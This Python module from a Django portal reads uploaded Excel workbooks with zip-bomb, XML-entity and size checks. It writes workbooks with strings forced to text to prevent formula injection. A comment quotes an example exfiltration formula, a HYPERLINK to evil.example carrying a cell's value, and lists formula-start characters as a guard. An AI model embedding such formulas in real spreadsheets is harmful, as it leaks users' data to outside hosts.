"""Excel workbooks (.xlsx), whatever they hold: reading an uploaded sheet, the upload form, the preview's
wait in the session, and the helpers that write workbooks and send them.

An import file is described by its columns (``Column``): each has a fixed Vietnamese heading, the file
format the reader matches in any case and with or without extra spaces. The rows are read as text only
(``SheetRow``), so that they can wait in the session as JSON between the preview and the confirmation,
and be checked again exactly as on the preview. What the rows mean is each app's business.
"""

from __future__ import annotations

import io
import re
import secrets
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime
from decimal import Decimal
from typing import IO, Any, ClassVar
from xml.parsers import expat

from django import forms
from django.contrib import messages
from django.core.files.uploadedfile import UploadedFile
from django.http import FileResponse, HttpRequest
from django.utils.crypto import constant_time_compare
from django.utils.translation import gettext as _
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell, WriteOnlyCell
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.datavalidation import DataValidation

from .text import nfc
from .uploads import MB, ArchiveLimits, ArchiveRefused, check_archive

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXCEL_DATE_FORMAT = "DD/MM/YYYY"


@dataclass(frozen=True)
class Column:
    """A column of an import file."""

    field: str
    heading: str  # fixed Vietnamese: the file format
    width: int
    required: bool
    help: Any  # lazy text, shown on the import page and in the guide sheet


# ---------------------------------------------------------------------------------------------
# Reading an uploaded sheet
# ---------------------------------------------------------------------------------------------


def clean_text(value: str) -> str:
    """NFC, with non-breaking spaces and runs of spaces (pasted from elsewhere) made single spaces."""
    return " ".join(nfc(value).replace("\xa0", " ").split())


def heading_key(text: str) -> str:
    """How headings are compared: NFC, runs of spaces collapsed, case ignored."""
    return " ".join(nfc(text).split()).casefold()


def cell_text(value: Any) -> str:
    """A cell's value as the text a person reads; a date cell is written dd/mm/yyyy."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        value = value.date()
    if isinstance(value, date):
        return f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    if isinstance(value, Decimal):
        return f"{value:f}"
    return clean_text(str(value))


@dataclass(frozen=True)
class SheetRow:
    """One non-empty row of an uploaded sheet: its number in Excel and each column's text.

    A file format subclasses it and names its columns' fields in ``field_names``, which
    ``from_json`` keeps (and fills in when missing).
    """

    field_names: ClassVar[tuple[str, ...]] = ()

    number: int
    values: dict[str, str]
    # The fields whose cell holds a formula, and that cell ("C5"): the value is the formula's text, and
    # the row cannot be imported (``formula_errors``). The reader never trusts a formula's cached result.
    formulas: dict[str, str] = field(default_factory=dict)

    def get(self, name: str) -> str:
        return self.values.get(name, "")

    def formula_errors(self) -> dict[str, str]:
        """Each field whose cell holds a formula, with the error to show on the row."""
        return {
            name: _("Cell %(cell)s holds a formula; enter its value instead.") % {"cell": cell}
            for name, cell in self.formulas.items()
        }

    def as_json(self) -> dict[str, Any]:
        return {"number": self.number, "values": dict(self.values), "formulas": dict(self.formulas)}

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> SheetRow:
        values = data.get("values") or {}
        formulas = data.get("formulas") or {}
        return cls(
            number=int(data["number"]),
            values={name: str(values.get(name) or "") for name in cls.field_names},
            formulas={name: str(formulas[name]) for name in cls.field_names if name in formulas},
        )


class SheetError(Exception):
    """Why a sheet cannot be read; the app says it in its own words, but for ``UnreadableWorkbook``."""


class UnreadableWorkbook(SheetError):
    """Not an .xlsx workbook, or a damaged one."""

    @property
    def message(self) -> str:
        return _("The file could not be read as an Excel workbook (.xlsx).")


class MissingHeadings(SheetError):
    """No row where a heading row may stand holds every required heading; ``missing``: those the last one lacked."""

    def __init__(self, missing: list[Column]) -> None:
        super().__init__(", ".join(column.heading for column in missing))
        self.missing = missing


class TooManyRows(SheetError):
    """More rows than the format allows (or more rows of any kind than are scanned)."""


def column_positions(header: Sequence[Any] | None, columns: Sequence[Column]) -> tuple[dict[str, int], list[Column]]:
    """Where each column's heading stands in the row ``header``, and the required columns it lacks."""
    titles = [heading_key(cell_text(cell)) for cell in (header or ())]
    positions = {
        column.field: titles.index(heading_key(column.heading))
        for column in columns
        if heading_key(column.heading) in titles
    }
    return positions, [column for column in columns if column.required and column.field not in positions]


@dataclass(frozen=True)
class SheetFormat:
    """What an import file holds: the sheet read (or else the first one), its columns and the type of its rows.

    The heading row is the first of the first ``header_rows`` rows that holds every required heading (it
    may sit under a title or two). Past ``max_rows`` rows the sheet is refused; formatted but empty rows
    are skipped, but past ``max_scanned_rows`` rows of any kind the sheet is refused too, so that a crafted
    file cannot keep the reader busy.
    """

    sheet_name: str
    columns: tuple[Column, ...]
    row_type: type[SheetRow]
    max_rows: int
    max_scanned_rows: int
    header_rows: int = 1


def _read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
    # Formulas are read as formulas (not data_only): a cached result may be missing (a file written by a
    # program) or differ from what the formula says, so a formula cell is an error on its row, never a value.
    workbook = load_workbook(source, read_only=True, data_only=False)
    try:
        sheet = workbook[spec.sheet_name] if spec.sheet_name in workbook.sheetnames else workbook.worksheets[0]
        positions: dict[str, int] | None = None
        missing = [column for column in spec.columns if column.required]
        rows: list[SheetRow] = []
        for number, row in enumerate(sheet.iter_rows(), start=1):
            if number > spec.max_scanned_rows or len(rows) > spec.max_rows:
                raise TooManyRows
            values = [_cell_value(cell) for cell in row]
            if positions is None:
                if number > spec.header_rows:
                    raise MissingHeadings(missing)
                found, missing = column_positions(values, spec.columns)
                positions = None if missing else found
                continue
            texts = {name: cell_text(values[i]) if i < len(values) else "" for name, i in positions.items()}
            if any(texts.values()):
                kept = {name: texts.get(name, "") for name in spec.row_type.field_names}
                formulas = {
                    name: f"{get_column_letter(i + 1)}{number}"
                    for name, i in positions.items()
                    if name in kept and i < len(row) and getattr(row[i], "data_type", None) == "f"
                }
                rows.append(spec.row_type(number=number, values=kept, formulas=formulas))
    finally:
        workbook.close()
    if positions is None:
        raise MissingHeadings(missing)
    if len(rows) > spec.max_rows:
        raise TooManyRows
    return rows


def _cell_value(cell: Any) -> Any:
    """A read cell's value; a formula's text (an array formula's too) rather than its cached result."""
    value = getattr(cell, "value", None)
    if getattr(cell, "data_type", None) == "f" and not isinstance(value, str):
        return getattr(value, "text", "") or ""
    return value


# What an uploaded workbook may hold, checked before openpyxl reads it (``check_workbook``). The
# worksheets are streamed by the reader, so they may be larger than the parts it reads whole (the
# shared strings, the styles...), which a few megabytes hold in any real workbook.
WORKBOOK_LIMITS = ArchiveLimits(max_entries=1000, max_total_bytes=64 * MB, max_entry_bytes=32 * MB)
MAX_WHOLE_PART_BYTES = 8 * MB
MAX_SHARED_STRINGS = 200_000
# ``count`` is the number of cells that use a shared string (a string used twice counts twice).
MAX_SHARED_STRING_USES = 2_000_000
SHARED_STRINGS = "xl/sharedStrings.xml"


class WorkbookRefused(UnreadableWorkbook):
    """A workbook past a limit of ``WORKBOOK_LIMITS`` (a zip bomb, or a file no real import needs)."""

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self._message = message

    @property
    def message(self) -> str:
        return self._message


class _SharedStringCounter:
    """Counts the shared strings as the part streams by, and reads its declared counts; never builds a tree."""

    def __init__(self) -> None:
        self.count = 0
        self.parser = expat.ParserCreate(namespace_separator=" ")
        self.parser.StartElementHandler = self._start
        # A workbook has no DTD: entities (a "billion laughs") are refused outright.
        self.parser.StartDoctypeDeclHandler = self._refuse_doctype

    def _too_many(self) -> WorkbookRefused:
        return WorkbookRefused(
            _("The workbook holds more than %(count)s different texts; split it into several files.")
            % {"count": f"{MAX_SHARED_STRINGS:,}".replace(",", ".")}
        )

    def _start(self, name: str, attributes: dict[str, str]) -> None:
        local = name.rsplit(" ", 1)[-1]
        if local == "si":
            self.count += 1
            if self.count > MAX_SHARED_STRINGS:
                raise self._too_many()
        elif local == "sst" and (
            _int(attributes.get("uniqueCount")) > MAX_SHARED_STRINGS
            or _int(attributes.get("count")) > MAX_SHARED_STRING_USES
        ):
            raise self._too_many()

    def _refuse_doctype(self, *_args: Any) -> None:
        raise UnreadableWorkbook

    def feed(self, chunk: bytes) -> None:
        self.parser.Parse(chunk, False)

    def close(self) -> None:
        self.parser.Parse(b"", True)


def _int(text: str | None) -> int:
    try:
        return int(text or 0)
    except ValueError:
        return 0


def _part_limit(name: str) -> int:
    return WORKBOOK_LIMITS.max_entry_bytes if name.startswith("xl/worksheets/") else MAX_WHOLE_PART_BYTES


def check_workbook(source: IO[bytes]) -> None:
    """Refuses (``WorkbookRefused``, ``UnreadableWorkbook``) a workbook that would cost the reader unbounded time or
    memory, reading it as a stream with byte caps and the shared strings counted; ``source`` is left at its start."""
    try:
        check_archive(
            source, WORKBOOK_LIMITS, entry_limit=_part_limit, inspectors={SHARED_STRINGS: _SharedStringCounter}
        )
    except SheetError:
        raise
    except ArchiveRefused as error:
        raise WorkbookRefused(error.message) from error
    except Exception as error:  # not a zip archive, a damaged one, an encrypted one, bad XML...
        raise UnreadableWorkbook from error


def read_rows(source: IO[bytes], spec: SheetFormat) -> list[SheetRow]:
    """The non-empty rows under the heading row of an uploaded workbook, once ``check_workbook`` let it
    through; raises a ``SheetError``."""
    check_workbook(source)
    try:
        return _read_rows(source, spec)
    except SheetError:
        raise
    except Exception as error:  # a damaged or foreign file makes openpyxl raise almost anything
        raise UnreadableWorkbook from error


# ---------------------------------------------------------------------------------------------
# The upload form, and the rows waiting in the session between the preview and the confirmation
# ---------------------------------------------------------------------------------------------


class XlsxUploadForm(forms.Form):
    """One .xlsx workbook: its name and size are checked, then ``read`` reads its rows into ``sheet_rows``.

    A subclass sets ``max_bytes``, the texts that state its limits (``file_help``, ``too_large``),
    ``app_error`` (its app's error: its message is shown under the field) and ``read``.
    """

    max_bytes: int
    file_help: Any = ""
    too_large: Any = ""
    app_error: type[Exception] = SheetError

    file = forms.FileField(
        label=gettext_lazy("Excel file (.xlsx)"),
        widget=forms.FileInput(attrs={"accept": f".xlsx,{XLSX_CONTENT_TYPE}"}),
        error_messages={
            "required": gettext_lazy("Choose the .xlsx file to import."),
            "missing": gettext_lazy("Choose the .xlsx file to import."),
            "invalid": gettext_lazy("The file was not sent; choose it again."),
            "empty": gettext_lazy("The file is empty."),
        },
    )

    def __init__(self, *args, **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.fields["file"].help_text = self.file_help
        self.sheet_rows: list[SheetRow] = []

    def read(self, upload: UploadedFile) -> list[SheetRow]:
        raise NotImplementedError

    def clean_file(self) -> UploadedFile:
        upload: UploadedFile = self.cleaned_data["file"]
        if not (upload.name or "").lower().endswith(".xlsx"):
            raise forms.ValidationError(
                gettext_lazy("Only .xlsx workbooks (Excel 2007 or later) can be imported; save the file as .xlsx."),
                code="extension",
            )
        if upload.size > self.max_bytes:
            raise forms.ValidationError(self.too_large, code="too_large")
        try:
            self.sheet_rows = self.read(upload)
        except self.app_error as error:
            raise forms.ValidationError(error.message, code="unreadable") from error
        return upload


@dataclass(frozen=True)
class PendingImport:
    token: str
    filename: str
    rows: list[SheetRow]


def keep_pending_import(request: HttpRequest, key: str, form: XlsxUploadForm, **scope: Any) -> None:
    """Puts the rows the form read in the session under ``key``, with a new random token and ``scope``
    (what the import is for, e.g. the table's id). The browser never sends rows: only the token."""
    request.session[key] = {
        **scope,
        "token": secrets.token_urlsafe(24),
        "filename": form.cleaned_data["file"].name,
        "rows": [row.as_json() for row in form.sheet_rows],
    }


def pending_import(request: HttpRequest, key: str, row_type: type[SheetRow], **scope: Any) -> PendingImport | None:
    """The import waiting in the session under ``key`` for the same ``scope``, or ``None``."""
    data = request.session.get(key)
    if not isinstance(data, dict) or any(data.get(name) != value for name, value in scope.items()):
        return None
    try:
        rows = [row_type.from_json(row) for row in data["rows"]]
        return PendingImport(token=str(data["token"]), filename=str(data.get("filename", "")), rows=rows)
    except (KeyError, TypeError, ValueError):
        return None


def confirmation_refused(request: HttpRequest, pending: PendingImport | None) -> bool:
    """True, with a warning for the user, unless the confirm form sent back the waiting import's token."""
    if pending is not None and constant_time_compare(request.POST.get("token", ""), pending.token):
        return False
    messages.warning(
        request,
        _(
            "There is no import waiting for this confirmation: it has been done already, or another file "
            "was uploaded since. Nothing was imported."
        ),
    )
    return True


# ---------------------------------------------------------------------------------------------
# Writing workbooks, and sending them
# ---------------------------------------------------------------------------------------------

BOLD = Font(bold=True)
TITLE = Font(bold=True, size=14)
WRAP = Alignment(wrap_text=True, vertical="top")


# openpyxl makes a formula of any string that begins with "=", and Excel runs a formula when the file
# opens (=HYPERLINK("http://evil.example/?leak="&B2,...) sends the row elsewhere). So every workbook
# the portal writes comes from ``new_workbook``, and ``workbook_bytes`` sees that every string is stored
# as a text cell. A text that begins like a formula (OWASP's list: = + - @, tab, carriage return) also
# gets Excel's quote prefix (the hidden apostrophe), so that editing the cell later does not bring it
# to life either. What Excel or LibreOffice shows is the text unchanged; numbers and dates keep their type.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(cell: Cell) -> Cell:
    """The cell, a string in it stored as text, never as a formula."""
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


class _TextSafeWriteOnlySheet(WriteOnlyWorksheet):
    """A write-only sheet that stores every string of a row as text (it writes each row at once, so
    nothing can be mended later)."""

    def append(self, row: Iterable[Any]) -> None:
        super().append([_text_safe(self, value) for value in row])


def _text_safe(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    if isinstance(value, Cell):
        return as_text(value)
    if isinstance(value, str):
        return as_text(WriteOnlyCell(sheet, value=value))
    return value


class PortalWorkbook(Workbook):
    """A workbook whose write-only sheets store text as text; see ``new_workbook``."""

    def create_sheet(self, title: str | None = None, index: int | None = None):
        if not self.write_only:
            return super().create_sheet(title, index)
        sheet = _TextSafeWriteOnlySheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet


def new_workbook(*, write_only: bool = False) -> PortalWorkbook:
    """Every workbook the portal writes starts here (``workbook_bytes`` refuses one that did not)."""
    return PortalWorkbook(write_only=write_only)


def set_properties(workbook: Workbook, title: str) -> None:
    workbook.properties.title = title
    workbook.properties.creator = _("Justice sector emulation")


def workbook_bytes(workbook: Workbook) -> bytes:
    """The saved workbook, every string in it stored as text (a formula nowhere)."""
    if not isinstance(workbook, PortalWorkbook):
        raise TypeError("Workbooks are made by core.xlsx.new_workbook, which keeps text from becoming formulas.")
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    as_text(cell)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def sheet_title(text: str) -> str:
    """A sheet name Excel accepts: at most 31 characters, none of []:*?/\\."""
    return re.sub(r"[\[\]:*?/\\]", "-", text)[:31]


def set_widths(sheet, widths: Iterable[int]) -> None:
    for position, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(position)].width = width


def bold_row(sheet, row: int) -> None:
    for cell in sheet[row]:
        cell.font = BOLD


def cells(sheet, values: Iterable, font: Font | None = None) -> list[WriteOnlyCell]:
    """The values as cells of a write-only sheet, in ``font`` if given."""
    written = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        if font is not None:
            cell.font = font
        written.append(cell)
    return written


def day_cell(sheet, value: date | None) -> WriteOnlyCell | None:
    """A date cell of a write-only sheet, shown dd/mm/yyyy."""
    if value is None:
        return None
    cell = WriteOnlyCell(sheet, value=value)
    cell.number_format = EXCEL_DATE_FORMAT
    return cell


def heading_row(sheet, columns: Sequence[Column]) -> None:
    """An import template's heading row, in bold, the columns at their widths, frozen above the rows."""
    sheet.append([column.heading for column in columns])
    for position, column in enumerate(columns, start=1):
        sheet.cell(row=1, column=position).font = BOLD
        sheet.column_dimensions[get_column_letter(position)].width = column.width
    sheet.freeze_panes = "A2"


def column_guide(guide, columns: Sequence[Column]) -> None:
    """The table of a guide sheet that says what to write in each column of the template."""
    guide.append([_("Column"), _("Required"), _("What to write")])
    bold_row(guide, guide.max_row)
    for column in columns:
        guide.append([column.heading, _("yes") if column.required else _("no"), str(column.help)])
        guide.cell(row=guide.max_row, column=3).alignment = WRAP


def list_check(sheet, *, position: int, formula: str, error: str, last_row: int) -> None:
    """A drop-down list on a column, from its second row to ``last_row``. A warning, not a stop: other
    spellings may be accepted too."""
    letter = get_column_letter(position)
    validation = DataValidation(
        type="list", formula1=formula, allow_blank=True, showErrorMessage=True, errorStyle="warning"
    )
    validation.error = error
    validation.add(f"{letter}2:{letter}{last_row}")
    sheet.add_data_validation(validation)


def xlsx_response(content: bytes, filename: str) -> FileResponse:
    """The workbook as a download."""
    response = FileResponse(io.BytesIO(content), as_attachment=True, filename=filename)
    response["Content-Type"] = XLSX_CONTENT_TYPE
    return response
